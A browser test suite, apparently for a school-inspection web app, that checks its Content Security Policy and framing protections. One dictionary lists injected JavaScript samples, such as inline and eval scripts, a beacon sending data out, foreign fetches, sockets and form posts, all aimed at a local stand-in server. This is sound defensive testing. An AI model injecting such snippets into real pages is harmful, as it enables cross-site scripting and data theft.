"""What the policy lets a browser do: every page works under it, and nothing that is slipped into one gets anywhere."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, Frame, Page, expect

from app.links import path as page_file
from app.rights import LOCAL, PAGES, START
from etl.__main__ import main
from tests.conftest import ROOT, Loaded, load_city, serve
from tests.gate_server import Gate, publish
from tests.test_browser import DRAWN, a_school, click_school, open_page, the_map

pytestmark = pytest.mark.browser

WATCH = """
    window.refused = [];
    window.addEventListener("securitypolicyviolation", (event) => {
        window.refused.push(event.effectiveDirective);
        console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} at ${location.pathname}`);
    });"""
STAFF = [name for name in PAGES[LOCAL] if (ROOT / page_file(name)).exists()]


@dataclass
class Watched:
    """A page, and every error that it or a frame of it has told the console."""

    page: Page
    errors: list[str] = field(default_factory=list)

    def hear(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(message.text[:300])


@pytest.fixture
def watched(context: BrowserContext, outside: list[str]) -> Watched:
    context.add_init_script(WATCH)
    watched = Watched(context.new_page())
    watched.page.on("console", watched.hear)
    watched.page.on("pageerror", lambda error: watched.errors.append(str(error)))
    return watched


class _Foreign(BaseHTTPRequestHandler):
    """Somebody else's server: it writes down who came, and hands out what it was given."""

    asked: list[str] = []
    page = b""

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(self.page)

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@pytest.fixture
def foreign() -> Iterator[tuple[str, type[_Foreign]]]:
    """Address of a server of another origin, and its book."""
    book = type("Book", (_Foreign,), {"asked": [], "page": b""})
    with ThreadingHTTPServer(("127.0.0.1", 0), book) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", book
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("name", STAFF)
def test_every_page_works_under_the_policy(watched: Watched, outside: list[str], server: str, name: str) -> None:
    page = watched.page
    # the page on which a visit begins lives at the root
    open_page(page, f"{server}/{'' if name == START[LOCAL] else name}?lang=ru")
    if name == "map":
        the_map(page).locator("canvas").first.wait_for()
    for summary in page.locator('[data-testid="stExpander"] summary').all()[:4]:
        summary.click()
    for tab in page.get_by_role("tab").all():
        tab.click()
    for chart in page.get_by_test_id("stPlotlyChart").locator("visible=true").all():
        chart.scroll_into_view_if_needed()
        chart.hover()
        expect(chart.locator("svg.main-svg").first).to_be_visible(timeout=30_000)
    for table in page.get_by_test_id("stDataFrame").locator("visible=true").all()[:3]:
        table.scroll_into_view_if_needed()
        table.hover()
        expect(table.locator("canvas").first).to_be_visible(timeout=30_000)
    page.wait_for_load_state("networkidle")
    assert watched.errors == []
    assert outside == []


def test_the_map_answers_a_click_and_keeps_its_place_in_the_address(
        watched: Watched, server: str, city: Loaded) -> None:
    page = watched.page
    school_id, name = a_school(city, "status = 'not_ready'")
    open_page(page, f"{server}/map?lang=ru")
    click_school(page, school_id)
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible(timeout=30_000)
    the_map(page).locator(".leaflet-control-zoom-in").click()
    page.wait_for_url(re.compile(r"[?&]at=[\d.,]+"))
    assert watched.errors == []


def test_a_file_is_taken_away_under_the_policy(watched: Watched, server: str) -> None:
    page = watched.page
    open_page(page, f"{server}/campaign?lang=ru")
    with page.context.expect_event("download") as download:
        page.locator('a[href*="/export/not_done"]').first.click()
    assert len(Path(download.value.path()).read_bytes()) > 100
    assert watched.errors == []


# Each is tried by a script that somebody managed to slip into a page of ours. A refusal is a violation of `directive`.
SLIPPED = {
    "an inline script": ("script-src-elem", """
        const it = document.createElement("script"); it.textContent = "window.bitten = 1";
        document.body.append(it);"""),
    "a script of text": ("script-src", """setTimeout("window.bitten = 1", 0);"""),
    "a handler in the markup": ("script-src-attr", """
        const it = document.createElement("div"); it.setAttribute("onclick", "window.bitten = 1");
        document.body.append(it); it.click();"""),
    "a foreign script": ("script-src-elem", """
        const it = document.createElement("script"); it.src = away + "/script"; document.body.append(it);"""),
    "a foreign picture": ("img-src", """new Image().src = away + "/picture";"""),
    "a foreign frame": ("frame-src", """
        const it = document.createElement("iframe"); it.src = away + "/frame"; document.body.append(it);"""),
    "a foreign style": ("style-src-elem", """
        const it = document.createElement("link"); it.rel = "stylesheet"; it.href = away + "/style";
        document.head.append(it);"""),
    "a foreign font": ("font-src", """
        new FontFace("f", `url(${away}/font)`).load().catch(() => 0);"""),
    "a call outside": ("connect-src", """fetch(away + "/call", {mode: "no-cors"}).catch(() => 0);"""),
    "a beacon outside": ("connect-src", """navigator.sendBeacon(away + "/beacon", "names");"""),
    "a socket outside": ("connect-src", """
        try { new WebSocket(away.replace("http", "ws") + "/socket"); } catch (refused) {}"""),
    "a form sent outside": ("form-action", """
        const it = document.createElement("form"); it.action = away + "/form"; it.method = "post";
        document.body.append(it); it.submit();"""),
    "another base of addresses": ("base-uri", """
        const it = document.createElement("base"); it.href = away; document.head.append(it);"""),
    "a foreign object": ("object-src", """
        const it = document.createElement("object"); it.data = away + "/object"; document.body.append(it);"""),
}
# What a map made of text has to be allowed, or what its frame has no need to be refused.
IN_A_MAP = SLIPPED.keys() - {"an inline script", "a script of text", "a handler in the markup"}


def _refused(where: str, told: str) -> str:
    return f"""(away) => {{ {where}; return new Promise((done) => {{
        const ends = Date.now() + 10000;
        (function look() {{
            if (window.refused.includes("{told}") || Date.now() > ends) done(window.refused);
            else requestAnimationFrame(look);
        }})(); }}); }}"""


def test_what_is_slipped_into_a_page_gets_nowhere(
        watched: Watched, server: str, foreign: tuple[str, type[_Foreign]]) -> None:
    away, book = foreign
    open_page(watched.page, f"{server}/quality?lang=ru")
    for what, (directive, attempt) in SLIPPED.items():
        watched.page.evaluate("() => { window.refused.length = 0; }")
        assert directive in watched.page.evaluate(_refused(attempt, directive), away), what
    assert watched.page.evaluate("() => window.bitten") is None
    assert book.asked == []


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The staff view of a small city whose inspectors have a plan: its map is in a frame."""
    folder = tmp_path_factory.mktemp("planned")
    city = load_city(folder, seed=1, schools=40, days=2)
    assert main(["plan", "--landing", str(city.landing), "--work", str(city.work), "--seconds", "1"]) == 0
    assert main(["load", "--landing", str(city.landing), "--serving", str(city.serving), "--work", str(city.work)]) == 0
    yield from serve(city.serving)


def plan_frame(page: Page) -> Frame:
    """The frame of the plan's map, once its schools can be found in it."""
    frame = page.wait_for_selector('iframe[src*="streamlit_folium"]', timeout=60_000).content_frame()
    assert frame is not None
    frame.wait_for_function(DRAWN, timeout=60_000)
    return frame


def test_the_map_in_a_frame_has_a_legend_and_answers_keys_and_clicks(
        watched: Watched, outside: list[str], planned: str) -> None:
    page = watched.page
    open_page(page, f"{planned}/plan?lang=ru")
    frame = plan_frame(page)
    frame.frame_element().scroll_into_view_if_needed()
    numbers = [int(said) for said in frame.locator(".school-map-count b").all_inner_texts()]
    assert (len(numbers), sum(numbers)) == (5, int(frame.locator(".school-map").get_attribute("data-shown-n") or 0))
    frame.locator(".school-map").focus()
    page.keyboard.press("PageDown")
    expect(frame.locator(".school-map-voice")).to_contain_text("1 / ")
    school_id, place = frame.evaluate("""() => {
        const ids = Array.from({length: 60}, (_, n) => `S${String(n).padStart(4, "0")}`);
        return ids.map((id) => [id, window.schoolPixel(id)]).find(([, place]) => place);
    }""")
    page.mouse.click(place["x"], place["y"])
    page.wait_for_url(re.compile(r"/school\?.*school=" + school_id))
    assert watched.errors == []
    assert outside == []


def test_what_is_slipped_into_a_map_s_frame_cannot_call_out(
        watched: Watched, planned: str, foreign: tuple[str, type[_Foreign]]) -> None:
    away, book = foreign
    open_page(watched.page, f"{planned}/plan?lang=ru")
    frame = plan_frame(watched.page)
    for what in sorted(IN_A_MAP):
        directive, attempt = SLIPPED[what]
        if what == "a form sent outside":  # the sandbox forbids it before the policy is asked
            frame.evaluate(f"(away) => {{ {attempt} }}", away)
            continue
        frame.evaluate("() => { window.refused.length = 0; }")
        assert directive in frame.evaluate(_refused(attempt, directive), away), what
    # neither a window of its own, nor the whole tab
    assert frame.evaluate("(away) => window.open(away + '/popup') === null", away)
    assert frame.evaluate("""(away) => {
        try { window.top.location.href = away + "/tab"; return "let through"; } catch (refused) { return refused.name; }
    }""", away) == "SecurityError"
    assert watched.page.url.startswith(planned)
    assert book.asked == []


def test_no_foreign_page_frames_ours(
        context: BrowserContext, server: str, foreign: tuple[str, type[_Foreign]]) -> None:
    away, book = foreign
    book.page = f'<iframe id="app" src="{server}/"></iframe>'.encode()
    page = context.new_page()
    heard: list[str] = []
    page.on("console", lambda message: heard.append(message.text))
    with page.expect_event("console", lambda message: "frame-ancestors" in message.text, timeout=30_000):
        page.goto(away)
    assert all(not frame.url.startswith(server) for frame in page.frames)


def test_a_page_that_fails_tells_a_number_and_the_log_tells_the_rest(page: Page, tmp_path: Path) -> None:
    gate = Gate(tmp_path)
    publish(gate.serving, dt.datetime.now(dt.UTC))  # a file without a city: the first question of any page fails
    with gate.open():
        page.goto(f"{gate.address}/quality?lang=en")
        said = page.get_by_test_id("stAlert").get_by_text("tell the operator this number")
        expect(said).to_be_visible(timeout=60_000)
        number = re.search(r"this number: ([0-9a-f]{8})$", said.inner_text())
        assert number, said.inner_text()
        shown = page.locator("body").inner_text()
        assert not re.search(r"Traceback|Exception|Catalog|marts\.|\.py|/tmp|line \d", shown), shown
        expect(page.get_by_test_id("stException")).to_have_count(0)
        told = [line for line in gate.said.splitlines() if number[1] in line]
    assert len(told) == 1
    assert re.search(r"Error \w+ is the CatalogException of \S+store\.py:\d+, logged above", told[0])
    assert "Traceback" in gate.said.split(told[0])[0]
